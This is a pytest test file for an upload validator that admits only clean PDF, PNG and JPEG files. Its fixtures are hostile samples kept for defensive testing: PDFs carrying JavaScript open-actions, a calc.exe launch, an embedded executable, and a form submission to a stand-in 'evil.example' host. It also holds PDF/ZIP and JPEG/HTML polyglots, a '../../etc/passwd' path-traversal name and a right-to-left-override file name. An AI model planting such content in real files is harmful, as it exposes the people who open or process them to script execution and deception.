from __future__ import annotations

import hashlib
import io
import zipfile

import pytest
from PIL import Image

from bot.store.uploads import (
    ACTIVE_CONTENT,
    ALLOWED,
    DAMAGED,
    EMPTY,
    MAX_UPLOAD_BYTES,
    MIXED,
    UNCHECKABLE_PDF,
    UNKNOWN_TYPE,
    UploadCheck,
    check_upload,
    check_upload_file,
    safe_display_name,
    sniff_type,
)
from tests.files import make_jpeg, make_pdf, make_png, object_stream, pdf_stream

MB = 1024 * 1024


PDF, PNG, JPEG = make_pdf(), make_png(), make_jpeg()


def test_the_hand_made_pdf_is_well_formed():
    xref_offset = int(PDF.split(b"startxref\n")[1].split(b"\n")[0])
    assert PDF[xref_offset:].startswith(b"xref\n")
    entries = PDF[xref_offset:].split(b"\n")[3:6]
    for number, entry in enumerate(entries, start=1):
        assert PDF[int(entry[:10]) :].startswith(b"%d 0 obj" % number)


def test_the_hand_made_png_is_an_image_pillow_can_decode():
    with Image.open(io.BytesIO(PNG)) as image:
        image.load()
        assert (image.format, image.size, image.mode) == ("PNG", (3, 2), "RGB")
        assert image.getpixel((0, 0)) == (255, 128, 0)


def test_the_jpeg_is_an_image_pillow_can_decode():
    with Image.open(io.BytesIO(JPEG)) as image:
        image.load()
        assert (image.format, image.size) == ("JPEG", (4, 4))


@pytest.mark.parametrize("data, mime", [(PDF, "application/pdf"), (PNG, "image/png"), (JPEG, "image/jpeg")])
def test_real_files_are_accepted(data, mime):
    assert sniff_type(data) == mime
    assert mime in ALLOWED
    assert check_upload(data) == UploadCheck(mime, None, hashlib.sha256(data).hexdigest(), len(data))


def test_allowed_types_and_their_extensions():
    assert ALLOWED == {"application/pdf": ".pdf", "image/png": ".png", "image/jpeg": ".jpg"}


def test_the_same_bytes_always_have_the_same_digest():
    assert check_upload(PDF).sha256 == check_upload(bytes(PDF)).sha256 != check_upload(PNG).sha256


def test_empty_file():
    assert check_upload(b"") == UploadCheck(None, EMPTY, None, 0)


def test_too_big_file_names_the_limit():
    payload = b"%PDF-1.4\n" + b"0" * (11 * MB) + b"\n%%EOF\n"
    check = check_upload(payload)
    assert (check.mime, check.sha256, check.size) == (None, None, len(payload))
    assert "10 MB" in check.problem
    assert "11.0 MB" in check.problem


def test_exactly_the_limit_is_allowed():
    at_limit = PDF[:-6] + b"\n" * (MAX_UPLOAD_BYTES - len(PDF)) + b"%%EOF\n"
    assert len(at_limit) == MAX_UPLOAD_BYTES
    assert check_upload(at_limit).problem is None
    assert "10 MB" in check_upload(at_limit + b"\n").problem


# The start of a Windows program: "MZ", the DOS header, and the DOS stub's message.
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"This program cannot be run in DOS mode.\r\n"


@pytest.mark.parametrize(
    "data",
    [
        EXE,
        b"This is my certificate, honestly. (saved as certificate.pdf)\n",
        b"<html><body>%PDF-1.4</body></html>",  # the magic must come first
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 32,  # a PNG signature with no IHDR after it
        b"\xff\xd8",  # too short to be a JPEG
        b"GIF89a" + b"\x00" * 20,
    ],
)
def test_anything_but_pdf_png_or_jpeg_is_refused(data):
    assert sniff_type(data) is None
    assert check_upload(data) == UploadCheck(None, UNKNOWN_TYPE, None, len(data))


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 8,  # header, then garbage and no %%EOF
        PDF[:-20],  # cut off before %%EOF
        PDF + b"\n" * 1025,  # %%EOF further from the end than any writer puts it
        PNG[:-12],  # no IEND
        PNG[: len(PNG) // 2],  # cut off mid-IDAT
        JPEG[:-2],  # no end-of-image marker
        JPEG[: len(JPEG) // 2],
        JPEG + b"\x00" * 17,  # more padding than a writer adds
    ],
)
def test_a_damaged_or_truncated_file_is_refused(data):
    assert sniff_type(data) is not None
    assert check_upload(data) == UploadCheck(None, DAMAGED, None, len(data))


@pytest.mark.parametrize("data", [PDF + b"\r\n", PDF.rstrip(b"\n"), JPEG + b"\x00" * 16, JPEG + b"\r\n"])
def test_harmless_trailing_bytes_are_allowed(data):
    assert check_upload(data).problem is None


def test_problems_are_sentences_for_a_learner():
    for problem in (EMPTY, UNKNOWN_TYPE, DAMAGED, check_upload(b"%PDF-" + bytes(11 * MB)).problem):
        assert problem[0].isupper() and problem.endswith("?")
    assert all(kind in UNKNOWN_TYPE for kind in ("PDF", "PNG", "JPEG"))


@pytest.mark.parametrize(
    "filename, shown",
    [
        ("certificate.pdf", "certificate.pdf"),
        ("  certificate.pdf  ", "certificate.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\jane\\Desktop\\cert.png", "cert.png"),
        ("/tmp/uploads/cert.jpg", "cert.jpg"),
        ("cert\x00ificate\r\n.pdf", "certificate.pdf"),
        ("photo\u202egpj.exe", "photogpj.exe"),  # right-to-left override removed
        ("Zertifikat Müller – 2024.pdf", "Zertifikat Müller – 2024.pdf"),
        (None, "document"),
        ("", "document"),
        ("folder/", "document"),
        ("..", "document"),
        ("\x00\x1b", "document"),
    ],
)
def test_safe_display_name(filename, shown):
    assert safe_display_name(filename) == shown


def test_a_long_name_is_cut_to_80_characters_keeping_its_extension():
    shown = safe_display_name("a" * 200 + ".pdf")
    assert shown == "a" * 76 + ".pdf"


def test_a_long_name_without_a_short_extension_is_simply_cut():
    assert safe_display_name("b" * 200) == "b" * 80
    assert safe_display_name("c" * 100 + "." + "d" * 20) == ("c" * 100)[:80]


# --- what a file carries besides its picture ------------------------------------------------------

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"


@pytest.mark.parametrize(
    "pdf",
    [
        make_pdf(b"/OpenAction 4 0 R ", [JS_ACTION]),  # a script run on opening
        make_pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >> ", [JS_ACTION]),  # a document script
        make_pdf(b"/OpenAction << /S /Launch /F (calc.exe) >> "),  # starts a program
        make_pdf(
            b"/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> ",
            [pdf_stream(b"/Type /EmbeddedFile", b"MZ\x90\x00")],
        ),  # fmt: skip
        make_pdf(b"/AcroForm << /XFA 4 0 R >> ", [pdf_stream(b"", b"<xdp:xdp/>")]),  # XML forms can script
        make_pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >> "),
        make_pdf(b"/OpenAction 4 0 R ", [b"<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"]),  # escaped names
        # Hidden in a compressed object stream, where PDF 1.5 writers keep dictionaries.
        make_pdf(b"/OpenAction 5 0 R ", [object_stream({5: JS_ACTION})]),
        make_pdf(b"/OpenAction 5 0 R ", [object_stream({5: JS_ACTION}, compress=False)]),
    ],
    ids=[
        "open-action",
        "document-script",
        "launch",
        "embedded-file",
        "xfa",
        "submit-form",
        "escaped-names",
        "in-object-stream",
        "in-plain-object-stream",
    ],  # fmt: skip
)
def test_a_pdf_with_active_content_is_refused(pdf):
    assert sniff_type(pdf) == "application/pdf"
    assert check_upload(pdf) == UploadCheck(None, ACTIVE_CONTENT, None, len(pdf))


def test_an_encrypted_pdf_or_an_object_stream_that_cannot_be_read_is_refused():
    encrypted = make_pdf(extra=[b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"], trailer=b"/Encrypt 4 0 R ")
    assert check_upload(encrypted).problem == UNCHECKABLE_PDF
    hex_encoded = make_pdf(extra=[pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode",
                                             JS_ACTION.hex().encode() + b">")])  # fmt: skip
    assert check_upload(hex_encoded).problem == UNCHECKABLE_PDF
    broken = make_pdf(extra=[pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"not zlib")])
    assert check_upload(broken).problem == UNCHECKABLE_PDF


@pytest.mark.parametrize(
    "pdf",
    [
        make_pdf(b"/OpenAction [3 0 R /Fit] "),  # which page to open at
        make_pdf(b"/OpenAction 4 0 R ", [b"[3 0 R /XYZ null null 0]"]),
        make_pdf(extra=[b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://verify.example/) >> >>"]),
        make_pdf(extra=[object_stream({5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"})]),
        # Binary stream bytes that happen to spell a name are not names.
        make_pdf(extra=[pdf_stream(b"/Filter /DCTDecode", b"\x00/JS \x01/JavaScript\x02/Launch ")]),
    ],
    ids=["open-at-page", "open-at-page-by-reference", "link", "object-stream", "binary-stream"],
)
def test_ordinary_pdfs_are_accepted(pdf):
    assert check_upload(pdf).problem is None


def test_pdfs_written_by_real_programs_are_accepted():
    import matplotlib

    matplotlib.use("Agg")
    from matplotlib import pyplot

    figure = pyplot.figure()
    figure.text(0.1, 0.5, "Certificate of completion: Team Science Fundamentals")
    written = io.BytesIO()
    figure.savefig(written, format="pdf")
    pyplot.close(figure)
    pillow = io.BytesIO()
    Image.new("RGB", (60, 40), (250, 250, 250)).save(pillow, "PDF")
    for pdf in (written.getvalue(), pillow.getvalue()):
        assert check_upload(pdf).mime == "application/pdf"


def zip_archive(comment: bytes = b"") -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("run.exe", EXE)
        z.comment = comment
    return archive.getvalue()


@pytest.mark.parametrize(
    "polyglot",
    [
        PDF[:-6] + zip_archive(b"\n%%EOF\n"),  # a PDF that is also a ZIP (its comment ends the PDF)
        JPEG[:-2] + zip_archive(b"\xff\xd9"),  # a JPEG that is also a ZIP
        PDF[:9] + b"<html><script>alert(1)</script></html>\n" + PDF[9:],  # a PDF a browser would render
        JPEG[:2] + b"\xff\xfe\x00\x1b<script>alert(1)</script>" + JPEG[2:],  # HTML in a JPEG comment
    ],
    ids=["pdf+zip", "jpeg+zip", "pdf+html", "jpeg+html"],
)
def test_a_file_that_is_two_kinds_of_file_is_refused(polyglot):
    assert sniff_type(polyglot) is not None
    assert check_upload(polyglot).problem == MIXED


def test_a_png_damaged_inside_or_cut_and_patched_is_refused():
    big = make_png(64, 64)
    flipped = bytearray(big)
    flipped[40] ^= 0xFF  # a byte of the image data: its checksum no longer matches
    assert check_upload(bytes(flipped)).problem == DAMAGED
    patched = big[: len(big) // 2] + big[-12:]  # cut short, then "fixed" with an IEND
    assert check_upload(patched).problem == DAMAGED
    no_data = big[:33] + big[-12:]  # a header and an end, no image
    assert check_upload(no_data).problem == DAMAGED


def test_a_jpeg_whose_segments_do_not_hold_together_is_refused():
    assert check_upload(JPEG[:20] + b"\xff\xd9").problem == DAMAGED  # cut inside a segment, an end added
    assert check_upload(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(7) + b"\xff\xd9").problem == DAMAGED  # no image


def test_uploads_on_disk_get_the_same_judgement(tmp_path):
    for data in (PDF, PNG, JPEG, make_pdf(b"/OpenAction 4 0 R ", [JS_ACTION]), PDF[:-6] + zip_archive(b"%%EOF")):
        path = tmp_path / "incoming"
        path.write_bytes(data)
        assert check_upload_file(path) == check_upload(data)
